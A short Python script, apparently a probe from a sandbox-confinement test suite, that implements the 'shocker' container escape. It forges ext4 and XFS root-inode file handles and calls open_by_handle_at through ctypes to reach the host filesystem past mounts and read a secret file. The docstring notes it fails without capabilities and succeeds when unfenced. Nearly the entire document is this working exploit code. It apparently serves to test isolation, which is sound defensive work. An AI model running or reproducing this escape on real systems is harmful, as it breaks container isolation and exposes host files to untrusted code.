"""Opens a secret by a handle of the disk's root, past all mounts ("shocker").

stopped by: no capabilities
unfenced: succeeds
"""
# %%
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
EXT4_INO32_GEN, XFS_INO64 = 1, 0x81


def handles():
    yield struct.pack("<IiII", 8, EXT4_INO32_GEN, 2, 0), "/"  # the root of an ext4 is always inode 2, generation 0
    for inode in (64, 96, 128):  # and that of an XFS one of these
        yield struct.pack("<IiQI", 12, XFS_INO64, inode, 0), "/"
    made, mount = ctypes.create_string_buffer(struct.pack("<Ii", 120, 0), 128), ctypes.c_int()
    if libc.name_to_handle_at(-100, BAIT.encode(), made, ctypes.byref(mount), 0) == 0:
        yield made.raw, BAIT


def attack():
    for place in ("/usr/lib", os.getcwd(), os.path.dirname(BAIT)):
        if not os.path.exists(place):
            continue
        disk = os.open(place, os.O_RDONLY)
        for handle, root in handles():
            folder = libc.open_by_handle_at(disk, ctypes.create_string_buffer(handle), os.O_RDONLY)
            if folder < 0:
                continue
            try:
                return os.read(os.open(os.path.relpath(BAIT + "/secret", root), os.O_RDONLY, dir_fd=folder), 100)
            except OSError:
                os.close(folder)
